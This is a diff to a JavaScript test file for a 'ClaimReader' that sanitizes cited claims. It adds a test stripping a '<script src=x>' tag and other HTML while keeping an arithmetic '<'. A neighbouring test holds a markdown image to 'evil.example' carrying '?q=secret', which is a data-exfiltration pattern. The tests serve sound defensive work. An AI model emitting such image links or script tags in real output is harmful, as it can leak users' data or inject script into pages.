@@ -54,6 +54,11 @@ describe('ClaimReader', () => {
     expect(readAll([said])).toEqual([claim('The bridge cost \ufffd 120 million', 'c1')]);
   });
 
+  it('leaves no tags standing, but signs of arithmetic', () => {
+    const said = '<script src=x>The</script> <b>bridge</b> cost<br/>3 < 4 millions [c1]';
+    expect(readAll([said])).toEqual([claim('The bridge cost 3 < 4 millions', 'c1')]);
+  });
+
   it('leaves no address or image of the model standing', () => {
     expect(readAll(['See ![x](https://evil.example/?q=secret) the bridge [c1]'])).toEqual([
       claim('See x the bridge', 'c1'),
